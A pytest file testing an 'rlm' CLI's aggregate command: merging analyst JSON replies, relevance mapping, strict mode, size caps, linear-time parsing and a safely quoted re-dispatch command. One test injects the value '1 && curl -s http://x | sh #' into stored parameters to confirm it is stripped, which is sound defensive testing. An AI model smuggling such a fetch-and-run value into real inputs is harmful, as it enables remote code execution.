"""aggregate as the walkthrough ran it: concatenated replies, odd relevance words,
--strict, counts that say what they count, caps, and a re-dispatch command that is
safe to paste (issue #14 item 1, issue #15 aggregate parts)."""

from __future__ import annotations

import io
import json
import shlex
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from rlm.agents.findings import inline_quotes, parse_documents, parse_findings
from rlm.errors import InvalidFindingsError
from tests.agents.conftest import Cli

RLM = Path(sys.executable).parent / "rlm"


def _env() -> dict[str, str]:
    import os

    env = {k: v for k, v in os.environ.items() if not k.startswith("RLM_")}
    env["RLM_EMBEDDER"] = "hash"
    return env


def _dispatch(cli: Cli, db: str, *args: str) -> dict[str, Any]:
    result = cli("-d", db, "--format", "json", "dispatch", "doc", *args)
    assert result.code == 0, result.err
    data: dict[str, Any] = result.json()
    return data


def _aggregate(
    cli: Cli, monkeypatch: pytest.MonkeyPatch, payload: str, *args: str
) -> tuple[int, str, str]:
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(payload.encode())))
    result = cli(*args)
    return result.code, result.out, result.err


def _content(cli: Cli, db: str, chunk_id: int) -> str:
    data = cli("-d", db, "--format", "json", "chunk", "get", str(chunk_id)).json()
    text: str = data["content"]
    return text


def test_cat_of_two_reply_files_aggregates_cleanly(
    cli: Cli, db: str, doc: str, isolated_env: Path
) -> None:
    """The walkthrough's step 13: `cat a.json b.json | rlm aggregate --run R`."""
    plan = _dispatch(cli, db, "--batch-size", "2")
    first, second = plan["batches"][0]["chunk_ids"], plan["batches"][1]["chunk_ids"]
    reply_a = isolated_env / "reply-a.json"
    reply_b = isolated_env / "reply-b.json"
    reply_a.write_text(
        json.dumps(
            [{"chunk_id": c, "relevance": "high", "findings": [f"a{c}"]} for c in first], indent=2
        ),
        encoding="utf-8",
    )
    # The second analyst answered in a fence, then added an NDJSON line.
    reply_b.write_text(
        "```json\n"
        + json.dumps([{"chunk_id": second[0], "relevance": "low", "findings": ["b"]}])
        + "\n```\n"
        + json.dumps({"chunk_id": second[1], "relevance": "medium", "findings": ["c"]})
        + "\n",
        encoding="utf-8",
    )
    done = subprocess.run(
        f"cat {shlex.quote(str(reply_a))} {shlex.quote(str(reply_b))}"
        f" | {shlex.quote(str(RLM))} -d {shlex.quote(db)} --format json aggregate"
        f" --run {plan['run_id']}",
        shell=True,
        capture_output=True,
        text=True,
        env=_env(),
        timeout=60,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    data = json.loads(done.stdout)
    assert sorted(f["chunk_id"] for f in data["findings"]) == sorted(first + second)
    assert data["coverage"]["answered_chunks"] == 4


def test_values_back_to_back_and_errors_say_where() -> None:
    docs = parse_documents('[{"chunk_id": 1, "relevance": "high"}][]\n{"chunk_id": 2}')
    assert [where for where, _ in docs] == [
        "line 1 column 1",
        "line 1 column 39",
        "line 2 column 1",
    ]
    with pytest.raises(InvalidFindingsError, match=r"line 3 column 2 after 2 complete"):
        parse_documents("[]\n[]\n{oops}")


def test_unknown_and_synonym_relevance_are_never_silently_dropped(
    cli: Cli, db: str, doc: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The walkthrough's step 16: a 'critical' item vanished and still counted as answered."""
    plan = _dispatch(cli, db, "--batch-size", "3")
    ids = plan["batches"][0]["chunk_ids"]
    items = [
        {"chunk_id": ids[0], "relevance": "critical", "findings": ["important"]},
        {"chunk_id": ids[1], "relevance": "Very High", "findings": ["also"]},
        {"chunk_id": ids[2], "relevance": "blorp", "findings": ["odd"]},
    ]
    code, out, err = _aggregate(
        cli, monkeypatch, json.dumps(items), "-d", db, "--format", "json", "aggregate"
    )
    assert code == 0, err
    data = json.loads(out)
    assert data["filtered_out"] == 0
    assert data["summary"]["high_relevance"] == 2
    assert data["summary"]["unknown_relevance"] == 1
    assert data["summary"]["mapped_relevance"] == {"critical": "high", "Very High": "high"}
    assert list(data["grouped"]) == ["high", "unknown"]
    assert "'blorp'" in err and "kept under 'unknown'" in err
    assert "'critical' as high" in err
    code, out, _ = _aggregate(cli, monkeypatch, json.dumps(items), "-d", db, "aggregate")
    assert "Relevance: 2 high, 0 medium, 0 low, 1 unknown" in out


def test_counts_say_what_they_count(
    cli: Cli, db: str, doc: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    plan = _dispatch(cli, db, "--batch-size", "3")
    ids = plan["batches"][0]["chunk_ids"]
    items = [
        {"chunk_id": ids[0], "relevance": "high", "findings": ["x", "y"]},
        {"chunk_id": ids[1], "relevance": "low", "findings": ["X", "z"]},
        {"chunk_id": ids[2], "relevance": "none", "findings": []},
    ]
    code, out, _ = _aggregate(cli, monkeypatch, json.dumps(items), "-d", db, "aggregate")
    assert code == 0
    assert "Aggregated 2 chunk reports (1 more below --min-relevance low)" in out
    assert "Findings: 4 in all, 3 distinct" in out


def test_strict_fails_on_unverified_quotes_and_missing_chunks(
    cli: Cli, db: str, doc: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    plan = _dispatch(cli, db, "--batch-size", "2")
    run, ids = plan["run_id"], [c for b in plan["batches"] for c in b["chunk_ids"]]
    real = _content(cli, db, ids[0])[10:60]
    good = [
        {"chunk_id": c, "relevance": "low", "findings": [{"text": "t", "evidence": real}]}
        if c == ids[0]
        else {"chunk_id": c, "relevance": "none"}
        for c in ids
    ]
    args = ("-d", db, "aggregate", "--run", run, "--strict")
    code, _, err = _aggregate(cli, monkeypatch, json.dumps(good), *args)
    assert code == 0, err
    invented = [dict(good[0], findings=[{"text": "t", "evidence": "never written anywhere"}])]
    code, out, err = _aggregate(cli, monkeypatch, json.dumps(invented + good[1:]), *args)
    assert code == 1
    assert "Unverified quotes: 1" in out and "quoted evidence not found" in err
    code, out, err = _aggregate(cli, monkeypatch, json.dumps(good[:-3]), *args)
    assert code == 1
    assert f"Missing chunks: {ids[-3]}-{ids[-1]}" in out  # a range, not three numbers
    code, _, _ = _aggregate(cli, monkeypatch, json.dumps(good[:-3]), *args[:-1])
    assert code == 0  # without --strict the report is not a failure


def test_caps_on_items_and_input_size(
    cli: Cli, db: str, doc: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    items = json.dumps([{"chunk_id": 1, "relevance": "low"}] * 5)
    code, out, _ = _aggregate(
        cli, monkeypatch, items, "-d", db, "--format", "json", "aggregate", "--max-findings", "4"
    )
    assert code == 1 and "5 items; the limit is 4" in json.loads(out)["error"]["message"]
    code, _, err = _aggregate(cli, monkeypatch, items, "-d", db, "aggregate", "--max-findings", "5")
    assert code == 0, err
    code, out, _ = _aggregate(
        cli, monkeypatch, items, "-d", db, "--format", "json", "aggregate", "--max-input-size", "50"
    )
    assert code == 1 and "--max-input-size" in json.loads(out)["error"]["message"]


@pytest.mark.timeout(20)
def test_hostile_fence_and_quote_strings_parse_in_linear_time() -> None:
    """The old fence regex was cubic (20 KB: about 2 h); the curly-quote one quadratic."""
    with pytest.raises(InvalidFindingsError):
        parse_documents("```\n" + "\n" * 400_000 + "x")
    assert inline_quotes("“a" * 400_000) == []
    assert inline_quotes('"a' * 400_000) == []
    finding = "“a" * 200_000 + "“real quote”"
    items, _ = parse_findings(
        json.dumps([{"chunk_id": 1, "relevance": "high", "findings": [finding]}])
    )
    assert [q.text for q in items[0].quotes] == ["real quote"]


def test_redispatch_command_is_quoted_absolute_and_ignores_crafted_params(
    cli: Cli, db: str, doc: str, monkeypatch: pytest.MonkeyPatch, isolated_env: Path
) -> None:
    plan = _dispatch(cli, db, "--max-tokens", "600")
    run = plan["run_id"]
    conn = sqlite3.connect(db)
    conn.execute(
        "UPDATE dispatch_runs SET params = ? WHERE id = ?",
        (json.dumps({"max_tokens": "1 && curl -s http://x | sh #", "batch_size": 3}), run),
    )
    conn.commit()
    conn.close()
    monkeypatch.chdir(isolated_env.parent)  # a relative -d must still come out absolute
    relative = str(Path(db).relative_to(isolated_env.parent))
    code, out, _ = _aggregate(
        cli, monkeypatch, "[]", "-d", relative, "--format", "json", "aggregate", "--run", run
    )
    assert code == 0
    command = json.loads(out)["coverage"]["redispatch_command"]
    argv = shlex.split(command)
    assert argv[:3] == ["rlm", "-d", str(Path(db).absolute())]
    assert argv[3:6] == ["dispatch", "doc", "--chunks"]
    assert argv[7:] == ["--batch-size", "3"]  # the crafted max_tokens is dropped
    assert "&&" not in command and "curl" not in command


def test_aggregate_warns_when_the_run_buffer_is_gone(
    cli: Cli, db: str, doc: str, monkeypatch: pytest.MonkeyPatch, isolated_env: Path
) -> None:
    plan = _dispatch(cli, db)
    assert cli("-d", db, "rm", "doc", "--yes").code == 0
    code, out, err = _aggregate(
        cli, monkeypatch, "[]", "-d", db, "--format", "json", "aggregate", "--run", plan["run_id"]
    )
    assert code == 0
    coverage = json.loads(out)["coverage"]
    assert coverage["buffer_missing"] is True and coverage["redispatch_command"] is None
    assert "was deleted or replaced since the dispatch" in err
